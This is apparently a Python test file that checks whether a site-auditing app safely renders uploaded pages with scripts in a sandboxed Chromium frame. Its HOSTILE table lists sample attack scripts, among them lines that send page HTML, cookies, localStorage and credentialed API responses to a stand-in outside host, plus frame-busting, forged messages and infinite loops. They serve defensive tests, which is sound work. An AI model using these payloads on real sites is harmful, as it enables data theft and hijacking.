"""Pages with scripts, run once in Chromium: what they make is read; what they try besides comes to nothing."""

from __future__ import annotations

import http.server
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page, sync_playwright

from glaucon.core.snapshot.document import as_it_stood
from glaucon.core.survey.model import ContextKey
from glaucon.core.survey.site import SiteFiles
from glaucon.core.survey.survey import survey_site
from glaucon.measuring import own_browser, stand_with
from tests.apps.conftest import zipped
from tests.browser.conftest import LAYOUT, brought, sign_in

# what scripts make, each with the text that a visitor then reads and its colour
MADE = {
    "scrolled to": ("""<div style="height:3000px"></div><p id=t style="opacity:0;color:#123456">Read me</p>
        <script>new IntersectionObserver(all => all.forEach(one => { if (one.isIntersecting) t.style.opacity = 1 }))
        .observe(t)</script>"""),
    "faded in": ("""<style>p{opacity:0;color:#123456;transition:opacity 2s}.in{opacity:1}</style><p id=t>Read me</p>
        <script>setTimeout(() => t.className = "in", 100)</script>"""),
    "drawn from data": ("""<style>p{color:#123456}</style><div id=t></div><script>
        fetch("data.json").then(a => a.json()).then(a => t.innerHTML = `<p>${a.words}</p>`)</script>"""),
    "a rule put in": ("""<p class=t>Read me</p><script>const s = document.createElement("style");
        document.head.append(s); s.sheet.insertRule(".t { color: #123456 }")</script>"""),
    "an adopted sheet": ("""<p class=t>Read me</p><script>const s = new CSSStyleSheet();
        s.replaceSync(".t { color: #123456 }"); document.adoptedStyleSheets = [s]</script>"""),
    "a sheet switched off": ("""<style id=s>p{color:#fff}</style><style>body{color:#123456}</style><p>Read me</p>
        <script>s.sheet.disabled = true</script>"""),
    "a module": ("""<p id=t style="color:#123456"></p><script type=module>
        import { words } from "./words.js"; t.textContent = words</script>"""),
    "a box ticked": ("""<style>p{display:none;color:#123456}input:checked~p{display:block}</style><input type=checkbox
        id=c><p>Read me</p><script>c.checked = true</script>"""),
    "a dark switch kept": ("""<style>.dark p{color:#123456}</style><p>Read me</p><script>
        if (!localStorage.getItem("mode")) localStorage.setItem("mode", "dark");
        document.body.className = localStorage.getItem("mode"); document.cookie = "a=b";
        history.replaceState({}, "", "/elsewhere")</script>"""),
}  # fmt: skip
FILES = {"data.json": b'{"words": "Read me"}', "words.js": b'export const words = "Read me";'}
# what hostile ones try; with what has to stand afterwards: "" where the page's file is to be read as it is
HOSTILE = {
    "never ends": ("while (true) {}", ""),
    "never ends, later": ("setTimeout(() => { while (true) {} }, 250)", ""),
    "never rests": ("setInterval(() => document.body.append('.'), 5)", "Here"),
    "asks and tells": ("alert(1); confirm(2); prompt(3); print()", "Here"),
    "opens a window": ("open('OTHER/window'); window.open('/index.html')", "Here"),
    "goes away": ("location.href = 'OTHER/away'", "Here"),
    "goes round": ("location.reload()", "Here"),
    "leads the top away": ("top.location = 'OTHER/top'; parent.location = 'OTHER/parent'", "Here"),
    "fetches": ("fetch('OTHER/fetch', {method: 'POST', body: document.documentElement.outerHTML})", "Here"),
    "sends a beacon": ("navigator.sendBeacon('OTHER/beacon', 'x')", "Here"),
    "loads a picture": ("new Image().src = 'OTHER/picture?' + document.cookie", "Here"),
    "loads code": ("const s = document.createElement('script'); s.src = 'OTHER/s'; document.body.append(s)", "Here"),
    "loads a sheet": ("put('<link rel=stylesheet href=OTHER/s.css>')", "Here"),
    "asks ahead": ("put('<link rel=prefetch href=OTHER/ahead>')", "Here"),
    "opens a socket": ("new WebSocket('OTHER/socket'.replace('http', 'ws'))", "Here"),
    "listens for events": ("new EventSource('OTHER/events')", "Here"),
    "sends a form": ("put('<form id=f action=OTHER/form></form>'); f.submit()", "Here"),
    "frames another": ("put('<iframe src=OTHER/frame></iframe>')", "Here"),
    "downloads": ("const a = document.createElement('a'); a.href = 'data:,x'; a.download = 'x.exe'; a.click()", "Here"),
    "asks for the camera": ("navigator.mediaDevices?.getUserMedia({video: true})", "Here"),
    "stays as a worker": ("navigator.serviceWorker?.register('words.js'); new Worker('words.js')", "Here"),
    "writes the page anew": ("setTimeout(() => document.write('<p>Anew'), 50)", "Anew"),
    "takes the tree away": ("document.documentElement.remove()", ""),
    "breaks what is asked of it": ("Element.prototype.cloneNode = document.createElement = () => { throw 1 }", ""),
    "grows without end": (
        "addEventListener('scroll', () => put('<p style=height:900px>More')); put('<p style=height:3000px>')", "Here"
    ),
    "is too large": ("put('<p>' + 'word '.repeat(2e6))", ""),
    "looks into the application": ("document.title = parent.document.body.innerHTML", "Here"),
    "tells the application": ("parent.postMessage({glaucon: 'stood', stood: {html: '<p>Forged'}}, '*')", "Here"),
    "asks the application": (
        "fetch('/api/sites', {credentials: 'include'}).then(a => a.text()).then(a => fetch('OTHER/told?' + a))", "Here"
    ),
    "reads what is kept": ("new Image().src = 'OTHER/kept?' + JSON.stringify(localStorage)", "Here"),
}  # fmt: skip


class _Ears(http.server.BaseHTTPRequestHandler):
    heard: list[str] = []

    def _hear(self) -> None:
        self.heard.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    do_GET = do_POST = do_OPTIONS = _hear

    def log_message(self, *arguments: object) -> None:
        pass


@pytest.fixture
def other() -> Iterator[str]:
    """Yield the address of another host, which writes down all that it is asked."""
    _Ears.heard.clear()
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Ears)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def _hostile(script: str, other: str) -> bytes:
    put = "const put = (html) => document.body.insertAdjacentHTML('beforeend', html);"
    script = f"{put} {script}".replace("OTHER", other)
    return f"<!doctype html><title>Yard</title><body><p>Here</p><script>{script}</script>".encode()


def _run_apart(work: Any) -> Any:
    """Do something with Playwright where none runs: the tests' own holds the main thread's loop."""
    found: list[Any] = []
    thread = threading.Thread(target=lambda: found.append(work()))
    thread.start()
    thread.join()
    return found[0]


def test_what_scripts_make_is_read() -> None:
    def work() -> dict[str, set[str]]:
        found = {}
        with sync_playwright() as playwright, own_browser(playwright) as browser:
            for name, body in MADE.items():
                site = SiteFiles({"index.html": f"<!doctype html><body>{body}".encode(), **FILES})
                stood = stand_with(browser, site, "index.html")
                assert stood is not None, name
                read = survey_site(as_it_stood(site, {"index.html": stood}), [ContextKey(1280, "rest")])
                found[name] = {run.text for run in read.runs}
                assert "#123456" in stood.html or "rgb(18, 52, 86)" in stood.html, name
        return found

    assert _run_apart(work) == {name: {"Read me"} for name in MADE}


@pytest.mark.prove
def test_a_hostile_script_in_the_servers_browser_is_ended_and_asks_nobody(other: str) -> None:
    def work() -> dict[str, str]:
        found = {}
        with sync_playwright() as playwright:
            for name, (script, _) in HOSTILE.items():
                site, began = SiteFiles({"index.html": _hostile(script, other), **FILES}), time.monotonic()
                with own_browser(playwright) as browser:
                    stood = stand_with(browser, site, "index.html")
                assert time.monotonic() - began < 45, name
                found[name] = "" if stood is None else stood.html
        return found

    for name, html in _run_apart(work).items():
        assert HOSTILE[name][1] in html and (HOSTILE[name][1] or not html), (name, html[:300])
    assert _Ears.heard == []


_WORST = ("goes away", "fetches", "frames another", "looks into the application", "asks the application")


@pytest.mark.parametrize(
    "names", [pytest.param(_WORST, id="the worst"), pytest.param(tuple(HOSTILE), id="all", marks=pytest.mark.prove)]
)
def test_hostile_scripts_in_the_owners_browser_reach_nothing(
    page: Page, base_url: str, transactional_db: None, other: str, tmp_path: Path, names: tuple[str, ...]
) -> None:
    sign_in(page, base_url)
    page.goto("/")
    page.get_by_role("heading", name="Your sites", exact=True).wait_for()
    pages = {f"p{n}.html": _hostile(script, other) for n, (script, _) in enumerate(HOSTILE[name] for name in names)}
    archive = tmp_path / "yard.zip"
    archive.write_bytes(zipped({**pages, **FILES}))
    site = brought(page, archive)
    asked = page.request.get(f"/api/sites/{site}/layout").json()["scripts"]
    called = dict(zip(pages, names, strict=True))
    assert {one["page"] for one in asked} == set(pages)
    page.evaluate("localStorage.setItem('secret', 'the-locks-key')")
    downloads: list[object] = []
    page.context.on("page", lambda opened: downloads.append(opened))
    page.on("download", lambda one: downloads.append(one))
    here = page.url
    for one in asked:
        name = called[one["page"]]
        stood = page.evaluate(_STAND, one["address"])
        html = "" if stood is None else stood["html"]
        assert page.url == here and "the-locks-key" not in html and "Forged" not in html, name
        assert HOSTILE[name][1] in html or not html, (name, html[:300])
    assert _Ears.heard == [] and downloads == []


_STAND = """async (address) => {
  const nonce = crypto.randomUUID();
  const frame = document.createElement("iframe");
  frame.setAttribute("sandbox", "allow-scripts");
  frame.style.cssText = "position:fixed;inset:0;width:1280px;height:800px;opacity:0;z-index:-1";
  const limits = { still: 100, quiet: 800, after: 200, scrolling: 600, step: 5, elements: 60000, letters: 5000000 };
  frame.src = address;
  const told = new Promise((go) => {
    setTimeout(() => go(null), 6000);
    addEventListener("message", (event) => {
      if (event.source === frame.contentWindow && event.data?.nonce === nonce) go(event.data.stood);
    });
  });
  frame.addEventListener("load", () => frame.contentWindow.postMessage({ glaucon: "stand", nonce, limits }, "*"));
  document.body.append(frame);
  const stood = await told;
  frame.remove();
  return stood;
}"""


def test_an_owner_finds_what_scripts_make_on_the_bench(desk: Page, tmp_path: Path) -> None:
    page = f"<!doctype html><title>Yard</title><body>{MADE['scrolled to'].replace('#123456', '#999999')}"
    archive = tmp_path / "yard.zip"
    archive.write_bytes(zipped({"index.html": page.encode()}))
    site = brought(desk, archive)
    assert desk.request.get(f"/api/sites/{site}/texts").json()["total"] == 0
    desk.unroute(LAYOUT)
    desk.goto(f"/sites/{site}/bench")
    desk.get_by_text("Read me").first.wait_for(timeout=40_000)
    told = desk.request.get(f"/api/sites/{site}/texts").json()
    assert [one["text"] for one in told["texts"]] == ["Read me"] and told["texts"][0]["verdict"] == "fail"
    # told once: the next visit asks for no more
    assert desk.request.get(f"/api/sites/{site}/layout").json()["scripts"] == []
